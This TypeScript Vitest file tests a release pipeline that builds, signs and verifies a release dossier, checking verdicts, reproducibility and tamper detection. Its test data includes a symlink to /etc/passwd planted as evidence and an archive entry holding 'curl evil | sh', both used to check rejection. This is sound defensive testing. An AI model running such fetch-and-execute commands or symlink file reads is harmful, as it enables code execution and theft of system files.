import { generateKeyPairSync } from 'node:crypto';
import {
  mkdir,
  readFile,
  readdir,
  rm,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runPipeline } from '@shipshape/core/dossier/pipeline';
import { verifyDossier } from '@shipshape/core/dossier/verify-dossier';
import { dossierVerifierDefaults } from '@shipshape/core/dossier/index-signer';
import { parseTar } from '@shipshape/core/dossier/tar-reader';
import { tarBytes } from '@shipshape/core/dossier/tar-writer';
import { copyExample, tempDir } from '../../helpers/temp-project.ts';
import {
  archiveOf,
  blockingFinding,
  configError,
  fixtureContext,
  fixtureOptions,
} from './pipeline-fixture.ts';

let keyDir: { dir: string; cleanup: () => Promise<void> };
let keyEnv: Record<string, string>;
const cleanups: (() => Promise<void>)[] = [];

beforeAll(async () => {
  keyDir = await tempDir('shipshape-key-');
  const { privateKey, publicKey } = generateKeyPairSync('ec', {
    namedCurve: 'P-256',
  });
  await writeFile(
    join(keyDir.dir, 'key.pem'),
    privateKey.export({ type: 'pkcs8', format: 'pem' }),
  );
  await writeFile(
    join(keyDir.dir, 'key.pub.pem'),
    publicKey.export({ type: 'spki', format: 'pem' }),
  );
  keyEnv = { SHIPSHAPE_SIGNING_KEY: join(keyDir.dir, 'key.pem') };
});
afterAll(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
  await keyDir.cleanup();
});

async function project(): Promise<string> {
  const temp = await copyExample();
  cleanups.push(temp.cleanup);
  return temp.dir;
}

async function verify(file: string, key?: string) {
  return verifyDossier(file, {
    ...dossierVerifierDefaults(process.cwd(), process.env),
    key,
  });
}

/** Rewrites one entry of a dossier archive (keeping every other byte). */
async function tamper(
  file: string,
  path: string,
  change: (data: Buffer) => Buffer,
): Promise<void> {
  const entries = parseTar(gunzipSync(await readFile(file)), file);
  const top = entries[0]!.path;
  const changed = entries
    .filter((e) => e.path !== top)
    .map((e) => ({
      path: e.path.slice(top.length + 1),
      type: e.type,
      data: e.path === `${top}/${path}` ? change(e.data) : e.data,
    }));
  expect(changed.some((e) => e.path === path)).toBe(true);
  await writeFile(file, gzipSync(tarBytes(changed, { mtime: 0, prefix: top })));
}

describe('the pipeline', () => {
  it('gives GO when every step passes, and the dossier verifies offline', async () => {
    const dir = await project();
    const report = await runPipeline(
      fixtureContext(dir, keyEnv),
      fixtureOptions(),
    );
    expect(report.verdict).toBe('GO');
    expect(report.exitCode).toBe(0);
    expect(report.steps.map((s) => s.status)).toEqual(Array(8).fill('passed'));
    expect(report.evidence).toEqual([
      {
        path: expect.stringContaining(
          'acme-widgets-1.4.0-dossier.tar.gz',
        ) as string,
        sha256: report.dossier?.sha256,
      },
    ]);
    const summary = await readFile(
      join(dir, '.shipshape', 'dossier', 'SUMMARY.md'),
      'utf8',
    );
    expect(summary.split('\n')[0]).toMatch(/^GO: release acme-widgets-1\.4\.0/);
    const html = await readFile(
      join(dir, '.shipshape', 'dossier', 'report.html'),
      'utf8',
    );
    expect(html).toContain('<svg');
    expect(html).toContain('MIT');
    expect(html).not.toMatch(/(src|href)="https?:/);
    const result = await verify(
      archiveOf(dir),
      join(keyDir.dir, 'key.pub.pem'),
    );
    expect(result.problems).toEqual([]);
    expect(result.ok).toBe(true);
    expect(result.verdict).toBe('GO');
    const checks = result.checks.map((c) => `${c.check}:${c.status}`);
    expect(checks).toContain('index-signature:ok');
    expect(checks).toContain('signature:ok');
    expect(checks).toContain('sbom-schema:ok');
    expect(checks).toContain('journal:ok');
  });

  it('gives NO-GO (exit 1) on a blocking finding and still runs the later steps', async () => {
    const dir = await project();
    const report = await runPipeline(
      fixtureContext(dir, keyEnv),
      fixtureOptions({ 'policy-scan': { findings: [blockingFinding] } }),
    );
    expect(report.verdict).toBe('NO-GO');
    expect(report.exitCode).toBe(1);
    expect(report.steps.find((s) => s.name === 'publish-dry-run')?.status).toBe(
      'passed',
    );
    const summary = await readFile(
      join(dir, '.shipshape', 'dossier', 'SUMMARY.md'),
      'utf8',
    );
    expect(summary.split('\n')[0]).toMatch(/^NO-GO/);
    expect(summary).toContain('replace left-pad');
    expect(summary).toContain('owner: @\u200bacme/widgets');
    expect((await verify(archiveOf(dir))).ok).toBe(true);
  });

  it('stops at a step that cannot run (exit 2) and records the rest as not evaluated', async () => {
    const dir = await project();
    const report = await runPipeline(
      fixtureContext(dir, keyEnv),
      fixtureOptions({ sign: { throws: configError } }),
    );
    expect(report.verdict).toBe('NO-GO');
    expect(report.exitCode).toBe(2);
    expect(report.steps.map((s) => s.status)).toEqual([
      'passed',
      'passed',
      'passed',
      'passed',
      'error',
      'not-evaluated',
      'not-evaluated',
      'passed',
    ]);
    expect(report.steps[4]?.message).toContain('method key needs a key');
    const journal = await readFile(
      join(dir, '.shipshape', 'journal.jsonl'),
      'utf8',
    );
    expect(journal).toContain('sign could not run');
  });

  it('records a stage missing from the build as not evaluated, never as a pass', async () => {
    const dir = await project();
    const options = fixtureOptions();
    options.steps = options.steps!.map((s) =>
      s.name === 'policy-scan' ? { name: s.name, stage: s.stage } : s,
    );
    const report = await runPipeline(fixtureContext(dir, keyEnv), options);
    expect(report.verdict).toBe('NO-GO');
    expect(report.exitCode).toBe(1);
    expect(report.findings.map((f) => f.code)).toContain('STEP_NOT_EVALUATED');
  });

  it('records an unsigned index as NO-GO when no signer can be made', async () => {
    const dir = await project();
    const options = fixtureOptions();
    options.makeSigner = () => Promise.reject(configError);
    const report = await runPipeline(fixtureContext(dir, keyEnv), options);
    expect(report.verdict).toBe('NO-GO');
    expect(report.findings.map((f) => f.code)).toContain('DOSSIER_UNSIGNED');
    const result = await verify(archiveOf(dir));
    expect(result.ok).toBe(false);
    expect(result.problems.join('\n')).toMatch(
      /index-signature dossier.json: the index is not signed/,
    );
  });

  it('refuses a symbolic link planted in the evidence (exit 2) and leaves no dossier', async () => {
    const dir = await project();
    await mkdir(join(dir, '.shipshape', 'evidence', 'sbom'), {
      recursive: true,
    });
    await symlink(
      '/etc/passwd',
      join(dir, '.shipshape', 'evidence', 'sbom', 'leak.json'),
    );
    const report = await runPipeline(
      fixtureContext(dir, keyEnv),
      fixtureOptions(),
    );
    expect(report.verdict).toBe('NO-GO');
    expect(report.exitCode).toBe(2);
    const step = report.steps.find((s) => s.name === 'dossier');
    expect(step?.status).toBe('error');
    expect(step?.errorCode).toBe('DOSSIER_NOT_REGULAR');
    const left = await readdir(join(dir, '.shipshape'));
    expect(left.filter((name) => name.includes('dossier'))).toEqual([]);
  });

  it('gives byte-identical SBOMs and index apart from signatures on two runs', async () => {
    const dir = await project();
    const read = (path: string) =>
      readFile(join(dir, '.shipshape', 'dossier', path), 'utf8');
    await runPipeline(fixtureContext(dir, keyEnv), fixtureOptions());
    const first = {
      sbom: await read('evidence/sbom/widget-lib.cdx.json'),
      index: await read('dossier.json'),
    };
    await rm(join(dir, '.shipshape'), { recursive: true });
    await runPipeline(fixtureContext(dir, keyEnv), fixtureOptions());
    expect(await read('evidence/sbom/widget-lib.cdx.json')).toBe(first.sbom);
    // Signatures (ECDSA) and the journal (random operation ids) differ by design.
    const strip = (text: string) => {
      const index = JSON.parse(text) as {
        files: { path: string; sha256: string }[];
      };
      index.files = index.files.filter(
        (f) => !/(\.sigstore\.json|journal\.jsonl|SHA256SUMS)$/.test(f.path),
      );
      return index;
    };
    expect(strip(await read('dossier.json'))).toEqual(strip(first.index));
  });

  it('re-packs the same dossier folder into the same bytes', async () => {
    const dir = await project();
    await runPipeline(fixtureContext(dir, keyEnv), fixtureOptions());
    const { packDirectory } =
      await import('@shipshape/core/dossier/tar-writer');
    const again = join(dir, 'again.tar.gz');
    await packDirectory(join(dir, '.shipshape', 'dossier'), again, {
      mtime: 1764763200,
      prefix: 'acme-widgets-1.4.0-dossier',
    });
    expect((await readFile(again)).equals(await readFile(archiveOf(dir)))).toBe(
      true,
    );
  });
});

describe('verify-dossier on a tampered dossier', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await project();
    await runPipeline(fixtureContext(dir, keyEnv), fixtureOptions());
  });

  async function copyArchive(): Promise<string> {
    const temp = await tempDir('shipshape-tamper-');
    cleanups.push(temp.cleanup);
    const file = join(temp.dir, 'd.tar.gz');
    await writeFile(file, await readFile(archiveOf(dir)));
    return file;
  }

  const files = [
    'SUMMARY.md',
    'report.html',
    'evidence/sbom/widget-lib.cdx.json',
    'evidence/sign/SHA256SUMS',
    'reports/sign.json',
    'inputs/release.yaml',
    'SHA256SUMS',
  ];
  for (const path of files) {
    it(`names ${path} when one byte of it changes`, async () => {
      const file = await copyArchive();
      await tamper(file, path, (data) =>
        Buffer.concat([data, Buffer.from(' ')]),
      );
      const result = await verify(file);
      expect(result.ok).toBe(false);
      expect(result.problems.join('\n')).toContain(
        `digest ${path}: its SHA-256 does not match`,
      );
    });
  }

  it('names the index when it is edited (its signature no longer holds)', async () => {
    const file = await copyArchive();
    await tamper(file, 'dossier.json', (data) =>
      Buffer.from(data.toString().replace('"GO"', '"NO-GO"')),
    );
    const result = await verify(file);
    expect(result.ok).toBe(false);
    expect(result.problems.join('\n')).toMatch(
      /index-signature dossier\.json\.sigstore\.json: does not verify dossier\.json/,
    );
  });

  it('names a journal line that was edited, even with the digest fixed in the index', async () => {
    const file = await copyArchive();
    await tamper(file, 'journal.jsonl', (data) =>
      Buffer.from(
        data.toString().replace('"actor":"test"', '"actor":"mallory"'),
      ),
    );
    const result = await verify(file);
    expect(result.problems.join('\n')).toContain('digest journal.jsonl');
    expect(result.problems.join('\n')).toMatch(
      /journal journal\.jsonl: line 1: the record was edited/,
    );
  });

  it('names an artifact signature that no longer matches its file', async () => {
    const file = await copyArchive();
    await tamper(file, 'evidence/sign/SHA256SUMS.sigstore.json', (data) =>
      Buffer.from(
        data.toString().replace(/"signature": "[A-Za-z0-9]/, '"signature": "A'),
      ),
    );
    const result = await verify(file);
    expect(result.ok).toBe(false);
    expect(result.problems.join('\n')).toContain(
      'evidence/sign/SHA256SUMS.sigstore.json',
    );
  });

  it('names a file added to the archive but not to the index', async () => {
    const file = await copyArchive();
    const entries = parseTar(gunzipSync(await readFile(file)), file);
    const top = entries[0]!.path;
    const rest = entries
      .filter((e) => e.path !== top)
      .map((e) => ({
        path: e.path.slice(top.length + 1),
        type: e.type,
        data: e.data,
      }));
    rest.push({
      path: 'extra.sh',
      type: 'file',
      data: Buffer.from('curl evil | sh'),
    });
    await writeFile(file, gzipSync(tarBytes(rest, { mtime: 0, prefix: top })));
    const result = await verify(file);
    expect(result.problems.join('\n')).toContain('unlisted extra.sh');
  });

  it('rejects a dossier signed by another key than the one the auditor pins', async () => {
    const file = await copyArchive();
    const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const other = join(keyDir.dir, 'other.pub.pem');
    await writeFile(other, publicKey.export({ type: 'spki', format: 'pem' }));
    const result = await verify(file, other);
    expect(result.ok).toBe(false);
    expect(result.problems.join('\n')).toMatch(/index-signature/);
  });

  it('leaves no extraction folder behind', async () => {
    const { tmpdir } = await import('node:os');
    const before = (await readdir(tmpdir())).filter((n) =>
      n.startsWith('shipshape-dossier-'),
    );
    await verify(await copyArchive());
    const after = (await readdir(tmpdir())).filter((n) =>
      n.startsWith('shipshape-dossier-'),
    );
    expect(after).toEqual(before);
  });
});
